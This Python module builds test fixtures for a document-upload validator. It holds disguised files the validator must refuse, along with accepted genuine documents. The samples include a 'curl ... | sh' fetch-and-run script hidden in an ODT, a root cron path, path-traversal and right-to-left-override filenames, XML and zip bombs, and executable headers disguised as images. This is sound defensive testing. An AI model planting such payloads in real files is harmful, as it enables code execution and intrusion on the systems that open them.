"""The corpus of disguised files the evidence upload refuses, and of real documents it keeps.

Each bad file is built here (small, in memory) and carries the words its refusal must contain
in English and in Simplified Chinese. ``CORPUS_SETTINGS`` are the limits the corpus is built
for (its archive bombs are a few kilobytes).
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from .evidence_files import (
    ODF_SHEET,
    compound_file,
    edited,
    legacy_doc,
    legacy_ppt,
    legacy_xls,
    odf,
    ole_package,
    png,
    real_docx,
    real_pptx,
    real_xlsx,
    unzip,
    vba_project,
    zip_of,
)

CORPUS_SETTINGS = {
    "EVIDENCE_MAX_UPLOAD_MB": 2,
    "EVIDENCE_MAX_UPLOAD_TOTAL_MB": 4,
    "EVIDENCE_ARCHIVE_MAX_EXPANDED_MB": 8,
    "EVIDENCE_ARCHIVE_MAX_RATIO": 200,
    "EVIDENCE_ARCHIVE_MAX_PARTS": 200,
}

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
PPTX_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"

#: Real programs' first bytes: a PE file (DOS header, stub, PE header), ELF, Mach-O, a script.
PE = (
    (
        b"MZ\x90\x00"
        + b"\x00" * 56
        + struct.pack("<I", 0x80)
        + b"This program cannot be run in DOS"
    ).ljust(0x80, b"\x00")
    + b"PE\x00\x00"
    + b"\x4c\x01"
    + b"\x00" * 200
)
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 120
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 120
SCRIPT = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0" + b"\x00" * 6 + b"F" + b"\0" * 60
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 64
RAR = b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64
GZIP = b"\x1f\x8b\x08\x00" + b"\x00" * 64
TAR = b"evil.sh".ljust(257, b"\0") + b"ustar\x0000" + b"\0" * 250


def _types(extra: str = "", main: str | None = None, *, was: str = DOCX_MAIN):
    def change(data: bytes) -> bytes:
        text = data.decode()
        if main:
            text = text.replace(was, main)
        return text.replace("</Types>", extra + "</Types>").encode()

    return change


def _rels(extra: str):
    def change(data: bytes) -> bytes:
        return data.decode().replace("</Relationships>", extra + "</Relationships>").encode()

    return change


def docx(*, add=(), types="", main=None, rels="") -> bytes:
    replace = {"[Content_Types].xml": _types(types, main)}
    if rels:
        replace["word/_rels/document.xml.rels"] = _rels(rels)
    return edited(real_docx(), add=add, replace=replace)


def xlsx(*, add=(), types="", main=None) -> bytes:
    return edited(
        real_xlsx(), add=add, replace={"[Content_Types].xml": _types(types, main, was=XLSX_MAIN)}
    )


def pptx(*, add=(), main=None) -> bytes:
    return edited(
        real_pptx(), add=add, replace={"[Content_Types].xml": _types("", main, was=PPTX_MAIN)}
    )


def _override(part: str, content_type: str) -> str:
    return f'<Override PartName="{part}" ContentType="{content_type}"/>'


def _with_raw_members(base: bytes, names: list[tuple[str, bytes]]) -> bytes:
    """Append members whose names zipfile would warn about (duplicates) or normalise."""
    buffer = io.BytesIO(base)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
            for name, data in names:
                archive.writestr(zipfile.ZipInfo(name), data)
    return buffer.getvalue()


def _encrypted_member() -> bytes:
    """word/document.xml flagged as encrypted (traditional PKWARE encryption, bit 0) in its
    local header and in the directory; zipfile cannot write encrypted members itself."""
    data = bytearray(real_docx())
    name = b"word/document.xml"
    local = data.rfind(b"PK\x03\x04", 0, data.find(name))
    central = data.rfind(b"PK\x01\x02", 0, data.rfind(name))
    data[local + 6] |= 0x01
    data[central + 8] |= 0x01
    return bytes(data)


def _header_differs() -> bytes:
    data = bytearray(real_docx())
    at = data.find(b"word/document.xml")  # the first occurrence is in the local header
    data[at : at + 17] = b"word/documenX.xml"
    return bytes(data)


def _nested_docx(depth: int) -> bytes:
    inner = real_docx()
    for _ in range(depth):
        inner = docx(add=[("word/embeddings/Microsoft_Word_Document.docx", inner)])
    return inner


def _xml_bomb() -> bytes:
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
        "<Types>&c;</Types>"
    )
    return edited(real_docx(), replace={"[Content_Types].xml": bomb.encode()})


def _odf_encrypted() -> bytes:
    def encrypt(data: bytes) -> bytes:
        return data.replace(
            b'manifest:full-path="content.xml" manifest:media-type="text/xml"/>',
            b'manifest:full-path="content.xml" manifest:media-type="text/xml">'
            b'<manifest:encryption-data manifest:checksum-type="SHA1" manifest:checksum="x"/>'
            b"</manifest:file-entry>",
        )

    return edited(odf(), replace={"META-INF/manifest.xml": encrypt})


@dataclass(frozen=True)
class Bad:
    case: str
    name: str
    build: Callable[[], bytes]
    en: str  # words the English message contains
    zh: str  # words the Chinese message contains


def _bad(case, name, build, en, zh):
    return Bad(case, name, build, en, zh)


CORPUS = [
    # --- macros, whatever their name ---------------------------------------------------------
    _bad(
        "docm renamed docx",
        "policy.docx",
        lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros or other code (a macro-enabled document, in word/document.xml)",
        "宏",
    ),
    _bad(
        "macro part under another name, by relationship",
        "policy.docx",
        lambda: docx(
            add=[("word/macros.bin", compound_file(vba_project()))],
            rels=f'<Relationship Id="rId99" Type="{VBA_REL}" Target="macros.bin"/>',
        ),
        "(a VBA project, in word/_rels/document.xml.rels: macros.bin)",
        "VBA 项目",
    ),
    _bad(
        "macro part under another name, by content type",
        "policy.docx",
        lambda: docx(
            add=[("word/macros.bin", b"\0" * 64)],
            types=_override("/word/macros.bin", "application/vnd.ms-office.vbaProject"),
        ),
        "(a VBA project, in word/macros.bin)",
        "VBA 项目",
    ),
    _bad(
        "VBA project found by content in an undeclared part",
        "policy.docx",
        lambda: docx(add=[("word/media/image9.bin", compound_file(vba_project()))]),
        "(a VBA project, in word/media/image9.bin › VBA)",
        "VBA 项目",
    ),
    _bad(
        "xlsm renamed xlsx",
        "kpis.xlsx",
        lambda: xlsx(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        "(a macro-enabled document, in xl/workbook.xml)",
        "启用宏的文档",
    ),
    _bad(
        "Excel 4.0 macro sheet in an xlsx",
        "kpis.xlsx",
        lambda: xlsx(
            add=[("xl/macrosheets/sheet2.xml", b"<xm:macrosheet/>")],
            types=_override(
                "/xl/macrosheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml"
            ),
        ),
        "(Excel 4.0 macro sheets, in xl/macrosheets/sheet2.xml)",
        "Excel 4.0 宏表",
    ),
    _bad(
        "pptm renamed pptx",
        "review.pptx",
        lambda: pptx(main="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
        "(a macro-enabled document, in ppt/presentation.xml)",
        "启用宏的文档",
    ),
    _bad(
        "ActiveX control in a docx",
        "form.docx",
        lambda: docx(
            add=[("word/activeX/activeX1.xml", b"<ax:ocx/>")],
            types=_override("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
        ),
        "(ActiveX controls, in word/activeX/activeX1.xml)",
        "ActiveX 控件",
    ),
    _bad(
        "OpenDocument Basic macros",
        "plan.odt",
        lambda: odf(extra=[("Basic/Standard/Module1.xml", "<script:module/>")]),
        "(Basic or script modules, in Basic/Standard/Module1.xml)",
        "Basic 或脚本模块",
    ),
    _bad(
        "OpenDocument Python script",
        "plan.odt",
        lambda: odf(extra=[("Scripts/python/run.py", "import os\n")]),
        "(Basic or script modules, in Scripts/python/run.py)",
        "Basic 或脚本模块",
    ),
    _bad(
        "OpenDocument manifest script entry",
        "plan.odt",
        lambda: odf(manifest_entries=[("Scripts/", "application/binary")]),
        "(Basic or script modules, in META-INF/manifest.xml: Scripts/)",
        "Basic 或脚本模块",
    ),
    _bad(
        "macro-bearing .doc (Macros storage)",
        "procedure.doc",
        lambda: legacy_doc(vba_project("Macros")),
        "(a VBA project, in Macros)",
        "VBA 项目",
    ),
    _bad(
        "macro-bearing .xls (_VBA_PROJECT_CUR storage)",
        "kpis.xls",
        lambda: legacy_xls(extra=vba_project("_VBA_PROJECT_CUR")),
        "(a VBA project, in _VBA_PROJECT_CUR)",
        "VBA 项目",
    ),
    _bad(
        ".doc with VBA code in a stream under another name",
        "procedure.doc",
        lambda: legacy_doc({"Data/Stuff": b"\x01\x00\x00Attribut\x00e VB_Nam\x00e = 1\r\n"}),
        "(VBA code, in the whole document)",
        "VBA 代码",
    ),
    _bad(
        ".xls with an Excel 4.0 macro sheet",
        "kpis.xls",
        lambda: legacy_xls(sheet_type=1),
        "(Excel 4.0 macro sheets, in the whole document)",
        "Excel 4.0 宏表",
    ),
    # --- programs inside documents -----------------------------------------------------------
    _bad(
        "Windows program as another member of a docx",
        "policy.docx",
        lambda: docx(add=[("word/media/image2.png", PE)]),
        "contains a Windows program (word/media/image2.png)",
        "Windows 程序",
    ),
    _bad(
        "program by its name inside a docx",
        "policy.docx",
        lambda: docx(add=[("word/update.exe", b"harmless bytes")]),
        "contains a program or script (word/update.exe)",
        "程序或脚本",
    ),
    _bad(
        "Linux program inside an xlsx",
        "kpis.xlsx",
        lambda: xlsx(add=[("xl/media/chart.bin", ELF)]),
        "contains a Linux program (xl/media/chart.bin)",
        "Linux 程序",
    ),
    _bad(
        "macOS program inside a pptx",
        "review.pptx",
        lambda: pptx(add=[("ppt/media/image5.jpeg", MACHO)]),
        "contains a macOS program (ppt/media/image5.jpeg)",
        "macOS 程序",
    ),
    _bad(
        "shell script inside an odt",
        "plan.odt",
        lambda: odf(extra=[("Pictures/run", SCRIPT)]),
        "contains a script (Pictures/run)",
        "脚本",
    ),
    _bad(
        "Windows shortcut inside a docx",
        "policy.docx",
        lambda: docx(add=[("word/media/link.dat", LNK)]),
        "contains a Windows shortcut (word/media/link.dat)",
        "Windows 快捷方式",
    ),
    _bad(
        "program attached to a .doc by name (OLE package)",
        "procedure.doc",
        lambda: legacy_doc({"ObjectPool/_1/\x01Ole10Native": ole_package("invoice.exe", b"x")}),
        "contains a program or script (ObjectPool/_1/\x01Ole10Native/invoice.exe)".replace(
            "\x01", "?"
        ),
        "程序或脚本",
    ),
    _bad(
        "program attached to a .doc under a text name",
        "procedure.doc",
        lambda: legacy_doc({"ObjectPool/_1/\x01Ole10Native": ole_package("readme.txt", PE)}),
        "contains a Windows program (ObjectPool/_1/?Ole10Native/readme.txt)",
        "Windows 程序",
    ),
    _bad(
        "Windows program in a stream of a .doc",
        "procedure.doc",
        lambda: legacy_doc({"Data": PE}),
        "contains a Windows program (Data)",
        "Windows 程序",
    ),
    # --- archives inside documents -----------------------------------------------------------
    _bad(
        "ZIP archive inside a docx",
        "policy.docx",
        lambda: docx(add=[("word/embeddings/files.zip", zip_of({"a.txt": b"x"}))]),
        "contains a ZIP archive (word/embeddings/files.zip)",
        "ZIP 压缩包",
    ),
    _bad(
        "7-Zip archive inside a docx",
        "policy.docx",
        lambda: docx(add=[("word/media/image3.png", SEVEN_ZIP)]),
        "contains a 7-Zip archive (word/media/image3.png)",
        "7-Zip 压缩包",
    ),
    _bad(
        "RAR archive inside an xlsx",
        "kpis.xlsx",
        lambda: xlsx(add=[("xl/embeddings/data.bin", RAR)]),
        "contains a RAR archive (xl/embeddings/data.bin)",
        "RAR 压缩包",
    ),
    _bad(
        "gzip file inside an ods",
        "kpis.ods",
        lambda: odf(ODF_SHEET, extra=[("Pictures/data.gz", GZIP)]),
        "contains a gzip archive (Pictures/data.gz)",
        "gzip 压缩文件",
    ),
    _bad(
        "tar archive inside a docx",
        "policy.docx",
        lambda: docx(add=[("word/media/data.bin", TAR)]),
        "contains a tar archive (word/media/data.bin)",
        "tar 归档文件",
    ),
    _bad(
        "document inside a document inside a docx",
        "policy.docx",
        lambda: _nested_docx(2),
        "a document or archive inside an embedded document",
        "嵌入文档中的文档或压缩包",
    ),
    _bad(
        "macros in an embedded workbook",
        "report.docx",
        lambda: docx(
            add=[
                (
                    "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
                    xlsx(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
                )
            ]
        ),
        "in word/embeddings/Microsoft_Excel_Worksheet.xlsx › xl/workbook.xml",
        "宏",
    ),
    # --- archive bombs -----------------------------------------------------------------------
    _bad(
        "part compressed more than 200 times",
        "policy.docx",
        lambda: docx(add=[("word/media/blank.bmp", b"\0" * (3 * 1024 * 1024))]),
        "(word/media/blank.bmp) is compressed more than 200 times",
        "压缩了 200 倍以上",
    ),
    _bad(
        "parts expanding beyond the limit",
        "policy.docx",
        lambda: docx(add=[(f"word/media/p{i}.bin", bytes([i]) * 1024 * 1024) for i in range(9)]),
        "would expand to more than 8.0",
        "解压后将超过 8.0",
    ),
    _bad(
        "too many parts",
        "policy.docx",
        lambda: docx(add=[(f"customXml/item{i}.xml", b"<a/>") for i in range(10, 220)]),
        "has more than 200 parts",
        "超过 200 个部件",
    ),
    # --- encryption --------------------------------------------------------------------------
    _bad(
        "encrypted ZIP member",
        "policy.docx",
        _encrypted_member,
        "is encrypted or password-protected (word/document.xml)",
        "已加密或受密码保护",
    ),
    _bad(
        "encrypted Office document (EncryptedPackage)",
        "policy.docx",
        lambda: compound_file(
            {"EncryptionInfo": b"\x04\x00\x04\x00" + b"\0" * 60, "EncryptedPackage": b"\0" * 5000}
        ),
        "is encrypted or password-protected (EncryptedPackage)",
        "已加密或受密码保护",
    ),
    _bad(
        "password-protected .doc",
        "procedure.doc",
        lambda: legacy_doc(encrypted=True),
        "is encrypted or password-protected (the whole document)",
        "已加密或受密码保护",
    ),
    _bad(
        "password-protected odt",
        "plan.odt",
        _odf_encrypted,
        "is encrypted or password-protected (META-INF/manifest.xml)",
        "已加密或受密码保护",
    ),
    # --- path tricks in part names -----------------------------------------------------------
    _bad(
        "part name leaving the document",
        "policy.docx",
        lambda: docx(add=[("../../word/evil.xml", b"<a/>")]),
        "unsafe name (../../word/evil.xml): it has empty",
        "名称不安全的部件",
    ),
    _bad(
        "absolute part name",
        "policy.docx",
        lambda: _with_raw_members(real_docx(), [("/etc/cron.d/job", b"* * * * * root x")]),
        "unsafe name (/etc/cron.d/job): it is an absolute path",
        "绝对路径",
    ),
    _bad(
        "drive letter in a part name",
        "policy.docx",
        lambda: docx(add=[("C:/Windows/System32/evil.xml", b"<a/>")]),
        "it is an absolute path",
        "绝对路径",
    ),
    _bad(
        "backslashes in a part name",
        "policy.docx",
        lambda: docx(add=[("word\\..\\..\\evil.xml", b"<a/>")]),
        "it uses backslashes",
        "反斜杠",
    ),
    _bad(
        "control character in a part name",
        "policy.docx",
        lambda: docx(add=[("word/media/image\u202egnp.exe", b"x")]),
        "it contains control characters",
        "控制字符",
    ),
    _bad(
        "two parts with the same name",
        "policy.docx",
        lambda: _with_raw_members(real_docx(), [("word/document.xml", b"<w:document/>")]),
        "(word/document.xml): two parts have this name",
        "两个部件同名",
    ),
    _bad(
        "two parts whose names differ only in case",
        "policy.docx",
        lambda: _with_raw_members(real_docx(), [("Word/Document.xml", b"<w:document/>")]),
        "(Word/Document.xml): two parts have this name",
        "两个部件同名",
    ),
    # --- damaged or unusual containers -------------------------------------------------------
    _bad(
        "truncated docx",
        "policy.docx",
        lambda: real_docx()[:3000],
        "cannot be checked (the archive is damaged)",
        "压缩包已损坏",
    ),
    _bad(
        "truncated .doc",
        "procedure.doc",
        lambda: legacy_doc()[:2000],
        "cannot be checked (the compound file is damaged)",
        "复合文件已损坏",
    ),
    _bad(
        "[Content_Types].xml that is not XML",
        "policy.docx",
        lambda: edited(real_docx(), replace={"[Content_Types].xml": b"<Types><oops"}),
        "([Content_Types].xml is not valid XML)",
        "不是有效的 XML",
    ),
    _bad(
        "XML bomb in [Content_Types].xml",
        "policy.docx",
        _xml_bomb,
        "([Content_Types].xml is not valid XML)",
        "不是有效的 XML",
    ),
    _bad(
        "local header and directory disagree",
        "policy.docx",
        _header_differs,
        "cannot be checked (the archive is damaged)",
        "压缩包已损坏",
    ),
    _bad(
        "bzip2-compressed parts",
        "policy.docx",
        lambda: zip_of(unzip(real_docx()), compression=zipfile.ZIP_BZIP2),
        "a compression method that documents do not use",
        "文档不使用的压缩方式",
    ),
    _bad(
        "installer-like compound file named .doc",
        "procedure.doc",
        lambda: compound_file({"\u4840\u3f3f\u4577\u446c": b"\0" * 100, "Binary.x": PE[:64]}),
        "a compound file that is not an Office document",
        "非 Office 文档的复合文件",
    ),
    _bad(
        "Excel workbook named .doc",
        "procedure.doc",
        legacy_xls,
        "is an older Excel workbook, which does not match its name",
        "旧版 Excel 工作簿",
    ),
]


@dataclass(frozen=True)
class Good:
    case: str
    name: str
    build: Callable[[], bytes]
    content_type: str


GOOD = [
    Good(
        "Word document",
        "信息安全方针.docx",
        real_docx,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    Good(
        "Word document with a picture",
        "事件管理程序.docx",
        lambda: real_docx(picture=True),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    Good(
        "Word document with an embedded workbook (a chart's data)",
        "服务报告.docx",
        lambda: docx(
            add=[("word/embeddings/Microsoft_Excel_Worksheet.xlsx", real_xlsx())],
            types='<Default Extension="xlsx" ContentType="application/vnd.openxml'
            'formats-officedocument.spreadsheetml.sheet"/>',
        ),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    Good(
        "Word document with an attached text file (OLE package)",
        "变更记录.docx",
        lambda: docx(
            add=[
                (
                    "word/embeddings/oleObject1.bin",
                    compound_file(
                        {"\x01Ole10Native": ole_package("notes.txt", "变更说明\n".encode())}
                    ),
                )
            ]
        ),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    Good(
        "Excel workbook",
        "事件统计.xlsx",
        real_xlsx,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    Good(
        "PowerPoint presentation",
        "管理评审.pptx",
        real_pptx,
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    Good("OpenDocument text", "服务连续性计划.odt", odf, "application/vnd.oasis.opendocument.text"),
    Good(
        "OpenDocument spreadsheet",
        "容量管理.ods",
        lambda: odf(ODF_SHEET),
        "application/vnd.oasis.opendocument.spreadsheet",
    ),
    Good(
        "PDF",
        "审核计划.pdf",
        lambda: b"%PDF-1.4\n1 0 obj<< /Type /Catalog >>endobj\ntrailer<< /Root 1 0 R >>\n%%EOF\n",
        "application/pdf",
    ),
    Good(
        "Word 97-2003 document without macros", "变更管理程序.doc", legacy_doc, "application/msword"
    ),
    Good(
        "Excel 97-2003 workbook without macros",
        "可用性报告.xls",
        legacy_xls,
        "application/vnd.ms-excel",
    ),
    Good(
        "PowerPoint 97-2003 presentation",
        "培训材料.ppt",
        legacy_ppt,
        "application/vnd.ms-powerpoint",
    ),
    Good("PNG image", "拓扑图.png", png, "image/png"),
]
